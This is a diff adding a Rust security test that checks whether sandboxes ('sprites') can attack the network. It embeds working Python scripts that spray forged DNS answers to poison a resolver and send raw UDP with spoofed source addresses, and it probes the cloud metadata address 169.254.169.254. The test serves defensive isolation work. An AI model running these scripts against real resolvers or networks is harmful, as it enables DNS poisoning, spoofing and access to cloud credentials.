@@ -729,3 +729,283 @@ async fn a_flooding_sprite_is_refused_and_its_neighbours_never_notice() {
     drop(hog);
     attempts.finish(13);
 }
+
+/// Run as root in a sprite: asks its resolver about `name` (the upstream answers after
+/// a second) while spraying forged answers for it, from the upstream's address and port
+/// to every ephemeral port of the host's side, with the query's own id: prints the
+/// address the resolver answered.
+const FORGE_ANSWERS: &str = r#"
+import socket, struct, sys, threading
+upstream, host, name, forged = sys.argv[1:5]
+qid = 0x4242
+query = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00" + struct.pack(">HH", 1, 1)
+resolver = open("/etc/resolv.conf").read().split("nameserver")[1].split()[0]
+answer = struct.pack(">HHHHHH", qid, 0x8180, 1, 1, 0, 0) + query[12:] + b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 3600, 4) + socket.inet_aton(forged)
+raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+sent = [0]
+def spray():
+    for round in range(2):
+        for port in range(32768, 61000):
+            udp = struct.pack(">HHHH", 53, port, 8 + len(answer), 0) + answer
+            ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, socket.inet_aton(upstream), socket.inet_aton(host))
+            try:
+                raw.sendto(ip + udp, (host, 0)); sent[0] += 1
+            except OSError:
+                pass
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(8)
+s.sendto(query, (resolver, 53))
+spraying = threading.Thread(target=spray); spraying.start()
+try:
+    data = s.recv(4096)
+    print("answer", socket.inet_ntoa(data[-4:]) if data[7] else "none", "sent", sent[0], flush=True)
+except Exception as e:
+    print("no answer", e, flush=True)
+spraying.join()
+"#;
+
+/// Run as root in a sprite: sends UDP with a forged source: a DNS query to its own
+/// resolver "from" `victim:5353` (the answer would go to the victim), and a datagram
+/// straight to `victim:5353` "from" `other_source`.
+const SPOOF: &str = r#"
+import socket, struct, sys
+victim, other_source = sys.argv[1:3]
+resolver = open("/etc/resolv.conf").read().split("nameserver")[1].split()[0]
+query = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\x07allowed\x04test\x00" + struct.pack(">HH", 1, 1)
+raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+def send(source, sport, destination, dport, payload):
+    udp = struct.pack(">HHHH", sport, dport, 8 + len(payload), 0) + payload
+    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(destination))
+    raw.sendto(ip + udp, (destination, 0))
+for _ in range(20):
+    send(victim, 5353, resolver, 53, query)
+    send(other_source, 9999, victim, 5353, b"spoofed")
+print("sent", flush=True)
+"#;
+
+/// Run in a sprite: listens on UDP 5353 for `seconds` and prints what came.
+const LISTEN_UDP: &str = r#"
+import socket, sys, time
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.bind(("0.0.0.0", 5353))
+s.settimeout(0.2)
+print("listening", flush=True)
+got = []
+end = time.time() + float(sys.argv[1])
+while time.time() < end:
+    try:
+        data, peer = s.recvfrom(4096)
+        got.append(peer[0])
+    except socket.timeout:
+        pass
+print("received", len(got), got[:3], flush=True)
+"#;
+
+/// A service that tries, as fast as it can from the moment the sprite boots, to reach
+/// `address:8000`, and logs every success.
+const PROBER: &str = r#"
+import socket, sys, time
+address = sys.argv[1]
+while True:
+    try:
+        socket.create_connection((address, 8000), timeout=0.05).close()
+        open("/home/sprite/probe.log", "a").write("CONNECTED %f\n" % time.time())
+    except OSError:
+        pass
+"#;
+
+async fn gateway_of(daemon: &Daemon, sprite: &str) -> std::net::Ipv4Addr {
+    run(
+        &daemon.client,
+        sprite,
+        &[
+            "sh",
+            "-c",
+            "awk '/^nameserver/ {print $2}' /etc/resolv.conf",
+        ],
+    )
+    .await
+    .stdout()
+    .trim()
+    .parse()
+    .unwrap()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn network_attacks_from_a_sprite_fail() {
+    let mut attempts = Attempts::new("network");
+    let internet = Internet::new(2, 1.0, true);
+    let daemon = Daemon::start_with(
+        "debian",
+        &format!(
+            "storage = \"local\"\nwarm_after = \"never\"\ncold_after = \"never\"\ndns_upstreams = [\"{}\"]\n",
+            internet.dns()
+        ),
+    )
+    .await;
+    let client = &daemon.client;
+    for name in ["open", "strict", "other"] {
+        create(client, name).await;
+        install_client(&daemon, name).await;
+    }
+    let (allowed, denied) = (internet.address(2), internet.address(3));
+
+    // No policy: never cloud metadata nor the host's own networks.
+    let out = py(&daemon, "open", &["connect", "169.254.169.254", "8000"]).await;
+    attempts.check(
+        "no policy: reach 169.254.169.254",
+        out.starts_with("failed"),
+        &out,
+    );
+    let out = py(&daemon, "open", &["connect", &allowed, "8000"]).await;
+    attempts.check(
+        "no policy: reach the host's connected network",
+        out.starts_with("failed"),
+        &out,
+    );
+
+    // A restricted policy: names resolve, private answers are never admitted...
+    let only_allowed = serde_json::json!([
+        {"domain": "allowed.test", "action": "allow"},
+        {"domain": "metadata.test", "action": "allow"}
+    ]);
+    assert_eq!(
+        set_policy(&daemon, "strict", only_allowed.clone())
+            .await
+            .status(),
+        200
+    );
+    assert_eq!(
+        py(&daemon, "strict", &["get", "http://allowed.test:8000/"]).await,
+        "hello from the internet"
+    );
+    assert_eq!(
+        py(&daemon, "strict", &["resolve", "metadata.test"]).await,
+        "169.254.169.254"
+    );
+    let out = py(&daemon, "strict", &["connect", "169.254.169.254", "8000"]).await;
+    attempts.check(
+        "an allowed name resolving to link-local admits it",
+        out.starts_with("failed"),
+        &out,
+    );
+    // ...unless the policy names the range (so the check above can fail).
+    let named = serde_json::json!([
+        {"domain": "metadata.test", "action": "allow"},
+        {"cidr": "169.254.169.254/32", "action": "allow"}
+    ]);
+    assert_eq!(set_policy(&daemon, "strict", named).await.status(), 200);
+    assert_eq!(
+        py(&daemon, "strict", &["resolve", "metadata.test"]).await,
+        "169.254.169.254"
+    );
+    assert_eq!(
+        py(&daemon, "strict", &["connect", "169.254.169.254", "8000"]).await,
+        "connected"
+    );
+    assert_eq!(
+        set_policy(&daemon, "strict", only_allowed).await.status(),
+        200
+    );
+
+    // Forged answers for an allowed name, sprayed at every port of the resolver's
+    // upstream socket with the id the sprite chose, do not admit another address.
+    let forged = root_python_args(
+        &daemon,
+        "strict",
+        FORGE_ANSWERS,
+        &[
+            &internet.address(53),
+            &internet.address(1),
+            "allowed.test",
+            &denied,
+        ],
+    )
+    .await;
+    eprintln!("forged answers: {}", forged.stdout().trim());
+    attempts.check(
+        "forged DNS answers are believed",
+        forged.stdout().contains(&format!("answer {allowed}")),
+        forged.stdout(),
+    );
+    let out = py(&daemon, "strict", &["connect", &denied, "8000"]).await;
+    attempts.check(
+        "forged DNS answers admit their address",
+        out.starts_with("failed"),
+        &out,
+    );
+
+    // Spoofed sources: towards the resolver (its answer would go to another sprite)
+    // and straight at another sprite.
+    let other_gateway = gateway_of(&daemon, "other").await;
+    let other_address = std::net::Ipv4Addr::from(u32::from(other_gateway) + 1).to_string();
+    let mut listener = client
+        .exec("other", &params(&["python3", "-c", LISTEN_UDP, "4"]))
+        .await
+        .unwrap();
+    line_with(&mut listener, "listening").await;
+    let spoofed = root_python_args(&daemon, "strict", SPOOF, &[&other_address, &allowed]).await;
+    assert!(
+        spoofed.stdout().contains("sent"),
+        "{}",
+        String::from_utf8_lossy(&spoofed.stderr)
+    );
+    let received = line_with(&mut listener, "received").await;
+    attempts.check(
+        "spoofed packets reach another sprite (directly or through the resolver)",
+        received.starts_with("received 0"),
+        &received,
+    );
+
+    // The policy is in force before anything of the sprite runs: a service that tries
+    // a denied address from boot never gets through, start after start.
+    create(client, "window").await;
+    client
+        .fs_write(
+            "window",
+            "/home/sprite/prober.py",
+            None,
+            true,
+            std::io::Cursor::new(PROBER.as_bytes().to_vec()),
+        )
+        .await
+        .unwrap();
+    let policy = serde_json::json!([{"domain": "allowed.test", "action": "allow"}]);
+    assert_eq!(set_policy(&daemon, "window", policy).await.status(), 200);
+    let prober = sprite_api::services::ServiceSpec {
+        cmd: "python3".into(),
+        args: vec!["/home/sprite/prober.py".into(), denied.clone()],
+        ..Default::default()
+    };
+    client
+        .put_service("window", "prober", &prober, None, |_| {})
+        .await
+        .unwrap();
+    for _ in 0..3 {
+        client.sleep("window", true).await.unwrap();
+        client.wake("window").await.unwrap();
+        tokio::time::sleep(Duration::from_millis(1500)).await;
+    }
+    let log = run(
+        client,
+        "window",
+        &[
+            "sh",
+            "-c",
+            "cat /home/sprite/probe.log 2>/dev/null; echo end",
+        ],
+    )
+    .await;
+    attempts.check(
+        "a service reaches a denied address while the sprite starts",
+        !log.stdout().contains("CONNECTED"),
+        log.stdout(),
+    );
+    attempts.finish(7);
+}
+
+async fn root_python_args(daemon: &Daemon, sprite: &str, script: &str, args: &[&str]) -> Finished {
+    let mut argv = vec!["sudo", "python3", "-c", script];
+    argv.extend_from_slice(args);
+    run(&daemon.client, sprite, &argv).await
+}
